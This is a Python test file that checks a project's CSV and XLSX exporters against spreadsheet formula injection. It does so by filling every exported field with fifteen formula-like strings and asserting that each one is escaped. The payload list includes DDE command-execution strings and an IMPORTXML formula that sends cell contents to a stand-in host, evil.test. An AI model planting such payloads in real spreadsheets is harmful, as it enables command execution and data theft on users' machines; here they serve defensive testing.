"""Fifteen texts that a spreadsheet takes for formulas, in every text of every table: no cell is a formula."""

import ast
import csv
import dataclasses
import datetime as dt
import io
import json
import re
import zipfile
from collections.abc import Mapping

import pytest

from assessments import (
    Answer,
    Questionnaire,
    Record,
    RecordedStep,
    RecordedTarget,
    record,
    record_as_csv,
    record_as_xlsx,
    steps_as_csv,
    take_snapshot,
)
from assessments.evidence.pipelines import project_facts, read_pipelines
from assessments.model import Evidence
from assessments.snapshots import Round
from datafiles import as_csv
from datafiles.spreadsheets import STARTS
from loop import AIMS, rank
from simulator import Study, scenario_from_text, sensitivity
from simulator.outcomes import find_outcome
from tests.browser.conftest import ROOT
from tests.browser.payloads import agenda, read_questionnaire, road, texts_of
from tests.words.workshop_room import house, shelf
from ui.agendas import asked as asked_of
from ui.simulating import exporting, ranking, turning
from ui.workshop import reporting
from workshops import HOST, Cast, GoTo, Join, OpenVote, Reveal, agenda_from_text, apply, open_room

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test","x")',
    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")', "-2+3+cmd|' /C calc'!A0", "  =1+1", "%0A=1+1",
    "|calc", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)",
)  # fmt: skip
DAY = dt.date(2026, 9, 1)
STUDY = Study(seed=1, replications=2, changes=40)
TABLES = {
    "assessments/exporting.py": {"record_as_csv", "record_as_xlsx"},
    "assessments/next_steps.py": {"steps_as_csv"},
    "ui/assessing/helps.py": {"draw_twin"},  # the rows of `ranking.csv_rows`
    "ui/evidence/pipelines.py": {"_draw_files"},
    "ui/simulating/exporting.py": {"metrics_csv", "trace_csv"},
    "ui/simulating/sweeping.py": {"_draw_footing"},  # paths of knobs and numbers
    "ui/simulating/trying.py": {"_draw_table"},  # the rows of `ranking.csv_rows`
    "ui/workshop/reporting.py": {"as_table"},
}
"""Every function that writes a table for a spreadsheet."""


def whole_record(first: int) -> Record:
    """Return a record whose every text begins like a formula."""
    asked = read_questionnaire(first, len(FORMULAS), FORMULAS)
    names = [one.id for one in asked.practices]
    texts = {name: FORMULAS[(first + place) % len(FORMULAS)] for place, name in enumerate(names)}
    answers = {name: said(asked, name, text) for name, text in texts.items()}
    tallies = {name: {"yes": 4, "no": 3} for name in names}
    taken = take_snapshot(asked, Round(FORMULAS[first], DAY, answers, 7, tallies))
    targets = {
        name: RecordedTarget(worth=1.0, option="yes", reason=text, owner=text, due=DAY)
        for name, text in texts.items()
    }
    steps = [
        RecordedStep(practice=name, measure=text, step=text, owner=text, due=DAY, state="kept", outcome=text)
        for name, text in texts.items()
    ]
    return record(asked, taken, targets, steps)


def said(asked: Questionnaire, name: str, text: str) -> Answer:
    proof = (Evidence(text=text, by=text),)
    if asked.practice(name).question.kind == "multi":
        return Answer(state="value", value=("no", "yes"), reason=text, note=text, evidence=proof)
    return Answer(state="value", option="yes", reason=text, note=text, evidence=proof)


def workshop() -> bytes:
    """Return the counts of a room whose every step asks in formulas."""
    found = agenda_from_text(json.dumps(agenda(FORMULAS)))
    room = open_room(found, asked_of(found, house()), 1, 10_000.0)
    for place in range(2, 30, 3):
        room = apply(room, GoTo(place), HOST, 1.0)
        room = apply(room, OpenVote(), HOST, 1.0)
        for seat in range(8):
            room = apply(room, Join(f"seat-{seat}"), f"seat-{seat}", 1.0)
            room = apply(room, Cast(f"seat-{seat}", f"q{place}", f"o{seat}", 1), f"seat-{seat}", 1.0)
        room = apply(room, Reveal(), HOST, 1.0)
    return reporting.as_table(room, dataclasses.replace(shelf(), keys=lambda _place: {}))


def reasons(folder) -> bytes:
    """Return what pipeline files said, the files and everything in them named by formulas."""
    for place, text in enumerate(FORMULAS):
        jobs = {text: {"name": text, "environment": text, "steps": [{"name": text, "run": f"{text} deploy"}]}}
        whole = {"name": text, "on": "push", "jobs": jobs}
        name = text.replace("/", "|") + f"{place}.yml"
        file = folder / ".github" / "workflows" / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(json.dumps(whole))
    facts = project_facts(read_pipelines(folder)[0])
    assert facts is not None
    rows = [[one.fact, one.at.file, one.at.line, one.text, one.confidence.value] for one in facts.reasons]
    return as_csv(["fact", "file", "line", "text", "confidence"], rows)


def of_roads() -> Mapping[str, bytes]:
    """Return the tables of two lanes and of the changes of one, all their stages named by formulas."""
    found = {}
    for number in range(0, len(FORMULAS) - 1, 2):
        texts = {"A": road(number, FORMULAS), "B": road(number + 1, FORMULAS)}
        outcomes = {name: find_outcome(scenario_from_text(text), STUDY, 50.0) for name, text in texts.items()}
        found[f"metrics {number}"] = exporting.metrics_csv(outcomes)
        found[f"trace {number}"] = exporting.trace_csv(texts, STUDY)
    return found


def formulas_in(table: bytes) -> list[str]:
    """Return the cells of a CSV table that a spreadsheet takes for formulas; bare numbers are none."""
    rows = csv.reader(io.StringIO(table.decode(), newline=""), quoting=csv.QUOTE_NONNUMERIC)
    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
    return [one for one in texts if one[:1] in STARTS or (one.lstrip()[:1] in STARTS and one.strip())]


def holds_all(table: bytes) -> bool:
    """Say whether a CSV table really holds all fifteen, each with an apostrophe in front."""
    text = table.decode().replace('""', '"')
    return all(f"'{one}" in text or f"'{one.strip()}" in text for one in FORMULAS)


def test_there_are_fifteen_and_every_text_of_a_record_is_one_of_them() -> None:
    assert len(FORMULAS) == 15
    whole = [one for first in range(len(FORMULAS)) for one in texts_of(whole_record(first))]
    filled = {place for place, text in whole if any(one.strip() in text for one in FORMULAS)}
    wanted = {
        "Answer.note", "Answer.reason", "Evidence.text", "Snapshot.team", "Snapshot.title",
        "Snapshot.licence", "Snapshot.attribution", "RecordedTarget.reason", "RecordedTarget.owner",
        "RecordedStep.measure", "RecordedStep.step", "RecordedStep.owner", "RecordedStep.outcome",
        "Questionnaire.title", "Practice.title", "Question.text", "Option.text", "Dimension.title",
    }  # fmt: skip
    assert wanted - filled == set()


def test_no_cell_of_an_assessment_is_a_formula() -> None:
    for first in range(len(FORMULAS)):
        whole = whole_record(first)
        for table in (record_as_csv(whole), steps_as_csv(whole)):
            assert formulas_in(table) == []
            assert holds_all(table)
        with zipfile.ZipFile(io.BytesIO(record_as_xlsx(whole))) as book:
            parts = {
                name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", "rels"))
            }
        assert not any(re.search(r"<f[ >/]|<hyperlink", text) for text in parts.values())
        assert all(
            "<f>" not in text and "http://evil" not in text for name, text in parts.items() if "rels" in name
        )
        strings = parts["xl/sharedStrings.xml"].replace("&quot;", '"')
        assert all(one.strip() in strings for one in FORMULAS)


def test_no_cell_of_a_workshop_is_a_formula() -> None:
    table = workshop()
    assert formulas_in(table) == []
    assert holds_all(table)


def test_no_cell_about_pipeline_files_is_a_formula(tmp_path) -> None:
    table = reasons(tmp_path)
    assert formulas_in(table) == []
    assert "=1+1" in table.decode()


def test_no_cell_about_roads_is_a_formula() -> None:
    for name, table in of_roads().items():
        assert formulas_in(table) == [], name
    assert any(b"'=1+1" in table for table in of_roads().values())


@pytest.mark.parametrize("number", range(len(FORMULAS)))
def test_no_cell_of_what_helps_most_is_a_formula(number: int) -> None:
    scenario = scenario_from_text(road(number, FORMULAS))
    turns = turning.proposals(scenario)
    found = sensitivity(scenario, {one.path: one.value for one in turns}, STUDY, ranking.SHOWN)
    ranked = rank(found, turns, AIMS[0])
    head, *rows = ranking.csv_rows(ranked, STUDY)
    table = as_csv([str(name) for name in head], rows)

    assert formulas_in(table) == []


def test_every_function_that_writes_a_table_is_known() -> None:
    found: dict[str, set[str]] = {}
    folders = ("assessments", "content", "delivery", "loop", "simulator", "store", "ui", "workshops")
    for path in sorted(one for folder in folders for one in (ROOT / folder).rglob("*.py")):
        for function in ast.walk(ast.parse(path.read_text())):
            if isinstance(function, ast.FunctionDef) and calls(function) & {"as_csv", "as_xlsx"}:
                found.setdefault(str(path.relative_to(ROOT)), set()).add(function.name)

    assert found == TABLES


def calls(function: ast.FunctionDef) -> set[str]:
    """Return the names of the functions that a function calls by their bare names."""
    inside = (one for one in ast.walk(function) if isinstance(one, ast.Call))
    return {one.func.id for one in inside if isinstance(one.func, ast.Name)}
